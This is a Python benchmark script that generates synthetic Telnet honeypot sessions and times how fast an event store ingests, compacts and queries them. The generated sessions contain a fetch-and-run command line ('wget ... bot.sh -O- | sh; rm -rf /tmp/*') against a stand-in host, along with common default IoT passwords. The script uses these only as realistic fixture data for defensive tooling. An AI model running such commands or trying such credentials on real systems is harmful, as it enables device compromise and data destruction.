# SPDX-License-Identifier: Apache-2.0
"""How many events per second one process stores, what they cost, and how long report tables take.

    .venv/bin/python benchmarks/ingest.py [EVENTS [DAYS]]

The way of the hub: MessagePack batches → Structs → Arrow → Parquet segments with their manifest, fsynced;
then compaction with the rollups, and the usual questions on raw events and on rollups. Decoding and
storing run as the hub runs them, with the garbage collector on, tuned as the hub tunes it, and off. At the
end a tenth of the events goes through a whole hub: from the bus, where they lie durably, into event store and
catalogue.
"""

from __future__ import annotations

import asyncio
import gc
import platform
import random
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from contextlib import contextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path

from mead.bus.client import Bus
from mead.bus.publisher import Publisher, PublisherSettings
from mead.bus.server import NatsServer
from mead.clock import FakeClock
from mead.deck.hub import Hub
from mead.deck.layout import Layout
from mead.deck.processes import collect_seldom
from mead.deck.settings import Settings
from mead.model import event as model
from mead.model.codec import decode_batch, encode_batch
from mead.model.event import Event
from mead.store.events import EventStore
from mead.store.settings import StoreSettings
from mead.store.stats import stats

START = datetime(2026, 3, 1, tzinfo=UTC)
BATCH = 500
COMMIT = 50_000


def session(dice: random.Random, time_: datetime, number: int) -> list[Event]:
    """A Telnet session as loaders make it: seven events."""
    peer = {
        "sensor": f"sensor-{number % 20}",
        "session": f"{number:016x}",
        "src": f"203.{int(dice.paretovariate(0.6)) % 256}.{dice.randrange(256)}.{dice.randrange(64)}",
        "src_port": dice.randrange(1024, 65536),
        "dst": "198.51.100.9",
        "dst_port": dice.choice([23, 2323, 22]),
        "transport": "tcp",
        "service": "telnet",
    }
    url = f"http://203.0.113.{number % 200}/bot.{number % 9}.sh"
    login = {"username": "root", "password": dice.choice(["root", "admin", "xc3511"]), "method": "password"}
    return [
        model.SessionOpen(time=time_, **peer),
        model.LoginAttempt(time=time_ + timedelta(seconds=1), success=False, **login, **peer),
        model.LoginAttempt(time=time_ + timedelta(seconds=2), success=True, **login, **peer),
        model.CommandInput(time=time_ + timedelta(seconds=3), command="enable; system; shell; sh", **peer),
        model.CommandInput(
            time=time_ + timedelta(seconds=4), command=f"cd /tmp; wget {url} -O- | sh; rm -rf /tmp/*", **peer
        ),
        model.OfferSeen(
            time=time_ + timedelta(seconds=4), offer=f"{number:016x}", url=url, tool="wget", **peer
        ),
        model.SessionClose(
            time=time_ + timedelta(seconds=9), reason="peer", duration_ms=9000, bytes_in=321, **peer
        ),
    ]


def messages(events: int, days: int) -> Iterator[bytes]:
    dice = random.Random(1)
    count, batch = 0, []
    while count < events:
        moment = START + timedelta(days=days * count / events)
        made = session(dice, moment, count)
        batch += made
        count += len(made)
        if len(batch) >= BATCH:
            yield encode_batch(batch)
            batch = []
    yield encode_batch(batch)


@contextmanager
def measured(what: str, events: int) -> Iterator[None]:
    wall, cpu = time.perf_counter(), time.process_time()
    yield
    wall, cpu = time.perf_counter() - wall, time.process_time() - cpu
    rate, cost = events / wall, cpu * 1e6 / events
    print(f"{what:44} {rate:12,.0f} events/s {cost:8.2f} CPU s per million  {wall:7.2f} s")


def ingest(directory: Path, batches: list[bytes], settings: StoreSettings, clock: FakeClock) -> EventStore:
    store = EventStore.open(directory, settings, clock=clock)
    for sequence, data in enumerate(batches, 1):
        store.append("bench", sequence, decode_batch(data))
        if store.pending_events >= COMMIT:
            store.commit()
    store.commit()
    return store


QUESTIONS = {
    "top ports of the last 24 h": "SELECT dst_port, sum(n) FROM "
    "(SELECT dst_port, {events} AS n FROM {hourly} "
    "WHERE {hour} >= (SELECT max({hour}) FROM {hourly}) - INTERVAL 24 HOURS) "
    "GROUP BY 1 ORDER BY 2 DESC LIMIT 10",
    "top sources of all days": "SELECT src, sum({events}) FROM {source_day} "
    "GROUP BY 1 ORDER BY 2 DESC LIMIT 10",
    "distinct sources per day": "SELECT {day}, count(DISTINCT src) FROM {source_day} GROUP BY 1",
}
RAW = {"hourly": "events", "source_day": "events", "events": "1", "hour": "time", "day": "CAST(time AS DATE)"}
ROLLED = {"hourly": "hourly", "source_day": "source_day", "events": "events", "hour": "hour", "day": "day"}


def ask(store: EventStore, label: str) -> None:
    connection = store.connect()
    questions = {
        f"{what} ({kind})": query.format(**names)
        for what, query in QUESTIONS.items()
        for kind, names in (("events", RAW), ("rollup", ROLLED))
    }
    questions["attacks per day (rollup)"] = (
        "SELECT CAST(first_time AS DATE), count(*) FROM attacks GROUP BY 1"
    )
    questions["one source, all days (events)"] = (
        "SELECT count(*), max(command) FROM events WHERE src = '203.1.17.33'"
    )
    for what, query in questions.items():
        begin = time.perf_counter()
        connection.execute(query).fetchall()
        print(f"  {label:9} {what:44} {(time.perf_counter() - begin) * 1000:9.0f} ms")
    connection.close()
    begin = time.perf_counter()
    found = stats(store.snapshot())
    print(f"  {label:9} {'mead stats':44} {(time.perf_counter() - begin) * 1000:9.0f} ms")
    begin = time.perf_counter()
    rows = list(store.select("username = 'root' and success", limit=50, newest_first=True))
    print(f"  {label:9} {'newest 50 of a --where':44} {(time.perf_counter() - begin) * 1000:9.0f} ms")
    assert found.funnel.sessions > 0
    assert len(rows) == 50


async def through_the_hub(directory: Path, events: int) -> None:
    """What the hub takes off the bus, stores, projects and acknowledges."""
    settings, layout = Settings(data_dir=directory), Layout(directory)
    layout.make()
    async with NatsServer(layout.bus) as server, Bus.connect(server.credentials) as bus:
        async with Publisher(bus, "bench", PublisherSettings(memory_events=2 * events)) as publisher:
            for data in messages(events, 1):
                for event in decode_batch(data):
                    publisher.publish(event)
                await asyncio.sleep(0)
            await publisher.flush()
            published = publisher.acknowledged
        async with Hub(bus, layout, settings) as hub:
            with measured("bus to store and catalogue, the whole hub", published):
                running = asyncio.create_task(hub.run())
                while hub.stored_events < published:
                    await asyncio.sleep(0.01)
            running.cancel()
            await asyncio.gather(running, return_exceptions=True)


def main() -> None:
    events = int(sys.argv[1]) if len(sys.argv) > 1 else 1_000_000
    days = int(sys.argv[2]) if len(sys.argv) > 2 else 3
    commit = subprocess.run(
        ["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, check=False
    )
    print(f"{platform.platform()}, Python {platform.python_version()}, commit {commit.stdout.strip()}")
    batches = list(messages(events, days))
    events = sum(len(decode_batch(data)) for data in batches)
    print(f"{events:,} events of {sum(map(len, batches)) / events:.0f} bytes over {days} days")
    clock = FakeClock(START + timedelta(days=days, hours=2))
    with tempfile.TemporaryDirectory() as folder:
        with measured("msgpack to Structs", events):
            for data in batches:
                decode_batch(data)
        with measured("msgpack to Parquet, fsynced", events):
            ingest(Path(folder) / "gc", batches, StoreSettings(), clock).close()
        collect_seldom()
        with measured("msgpack to Parquet, fsynced, gc as in the hub", events):
            ingest(Path(folder) / "seldom", batches, StoreSettings(), clock).close()
        gc.collect()
        gc.disable()
        with measured("msgpack to Parquet, fsynced, gc off", events):
            store = ingest(Path(folder) / "events", batches, StoreSettings(), clock)
        gc.enable()
        size = sum(segment.size_bytes for segment in store.snapshot().manifest.segments)
        print(f"{len(store.snapshot().manifest.segments)} segments, {size / events:.1f} bytes per event")
        ask(store, "raw")
        with measured("compaction with all rollups", events):
            store.compact()
        size = sum(segment.size_bytes for segment in store.snapshot().manifest.segments)
        print(f"{len(store.snapshot().manifest.segments)} segments, {size / events:.1f} bytes per event")
        ask(store, "compacted")
        store.close()
        asyncio.run(through_the_hub(Path(folder) / "deck", events // 10))


if __name__ == "__main__":
    main()
